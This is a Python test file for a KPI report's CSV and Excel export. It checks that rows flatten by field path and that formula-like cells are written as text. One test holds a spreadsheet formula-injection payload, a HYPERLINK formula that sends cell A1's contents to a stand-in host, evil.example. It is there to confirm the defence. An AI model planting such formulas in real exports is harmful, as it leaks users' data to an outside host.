"""Flat CSV and Excel exports of a KPI report, with spreadsheet-safe cells."""

from __future__ import annotations

import csv
import io
from typing import Any

from openpyxl import load_workbook  # type: ignore[import-untyped]

from imsk.analytics.export import COLUMNS, csv_bytes, flatten, xlsx_bytes


def _report(group_key: str) -> dict[str, Any]:
    return {
        "period": {"from": "2026-04-01", "to": "2027-03-31"},
        "by": "service",
        "groups": [
            {
                "key": group_key,
                "kpis": {
                    "requests_received": 12,
                    "dna_rate": {"numerator": 1, "denominator": 4, "value": 0.25},
                    "cost_per_case": {"status": "unavailable", "reason": "no costs table"},
                    "change": -3.5,
                },
            }
        ],
    }


def test_nested_values_become_one_row_per_field_named_by_path() -> None:
    rows = flatten(_report("cav-msk"))
    fields = [(row["kpi"], row["field"], row["value"]) for row in rows]
    assert fields == [
        ("requests_received", "value", 12),
        ("dna_rate", "numerator", 1),
        ("dna_rate", "denominator", 4),
        ("dna_rate", "value", 0.25),
        ("cost_per_case", "status", "unavailable"),
        ("cost_per_case", "reason", "no costs table"),
        ("change", "value", -3.5),
    ]


def test_a_group_key_that_is_a_formula_is_written_as_text_in_csv() -> None:
    evil = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    table = list(csv.reader(io.StringIO(csv_bytes(_report(evil)).decode("utf-8"))))
    assert table[0] == list(COLUMNS)
    assert {row[3] for row in table[1:]} == {"'" + evil}
    # A negative number stays a number.
    assert table[-1][-1] == "-3.5"


def test_a_group_key_that_is_a_formula_is_text_in_excel_and_numbers_stay_numbers() -> None:
    evil = "=1+1"
    sheet = load_workbook(io.BytesIO(xlsx_bytes(_report(evil)))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == COLUMNS
    assert {row[3] for row in rows[1:]} == {"'=1+1"}
    cells = sheet["D2"]
    assert cells.data_type == "s"  # a string cell, not a formula ("f")
    assert rows[1][-1] == 12
    assert rows[-1][-1] == -3.5
